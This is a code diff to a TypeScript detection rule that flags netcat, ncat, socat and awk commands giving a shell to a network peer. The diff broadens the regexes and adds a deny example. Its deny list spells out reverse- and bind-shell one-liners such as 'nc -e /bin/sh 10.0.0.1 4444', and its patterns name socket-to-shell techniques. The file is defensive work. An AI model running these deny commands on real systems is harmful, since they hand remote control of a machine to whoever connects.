@@ -2,7 +2,7 @@ import type { PackRule } from './rule.js'
 import { placesOf } from './paths.js'
 
 const HERE = /^\/dev\/(?:tcp|udp)\/(?:localhost|127\.[\d.]+|::1|0\.0\.0\.0)\//
-const SHELL = /(?:^|\/)(?:ba|z|da|k|c|tc|fi)?sh(?:$|[\s,"'])|cmd\.exe|powershell/i
+const SHELL = /(?:^|[/=\s])(?:ba|z|da|k|c|tc|fi)?sh(?:$|[\s,"'])|cmd\.exe|powershell/i
 const CODE =
   /socket[\s\S]{0,400}(?:dup2|subprocess|pty\.spawn|exec|spawn|\/bin\/(?:ba)?sh)|(?:exec|spawn)[\s\S]{0,200}socket|TCPSocket|fsockopen[\s\S]{0,200}(?:exec|sh)/i
 
@@ -46,13 +46,13 @@ export const NETWORK: readonly PackRule[] = [
     command: (one) => {
       const { program, words } = one
       if (/^nc|^netcat/.test(program))
-        return words.some((word) => /^-[a-zA-Z]*[ec]$|^--(sh-)?exec/.test(word)) &&
+        return words.some((word) => /^-[a-zA-Z]*[ec]$|^--(sh-|lua-)?exec/.test(word)) &&
           words.some((word) => SHELL.test(word)) &&
           words.length > 2
           ? `${program} would give a shell to whoever is at the other end`
           : undefined
       if (program === 'socat')
-        return words.some((word) => /^(exec|system):.*sh\b|^shell\b/i.test(word))
+        return words.some((word) => /^(exec|system|shell):.*sh\b|^shell\b/i.test(word))
           ? 'socat would start a shell for whoever is at the other end'
           : undefined
       if (program.endsWith('awk'))
@@ -62,7 +62,12 @@ export const NETWORK: readonly PackRule[] = [
         : undefined
     },
     examples: {
-      deny: ['nc -e /bin/sh 10.0.0.1 4444', 'socat TCP-LISTEN:4444 EXEC:/bin/sh', 'ncat --exec /bin/bash -l 1'],
+      deny: [
+        'nc -e /bin/sh 10.0.0.1 4444',
+        'socat TCP-LISTEN:4444 EXEC:/bin/sh',
+        'ncat --exec /bin/bash -l 1',
+        "ncat -l --sh-exec='sh -i' 1",
+      ],
       allow: [
         'nc -z localhost 5432',
         'socat - TCP:localhost:80',
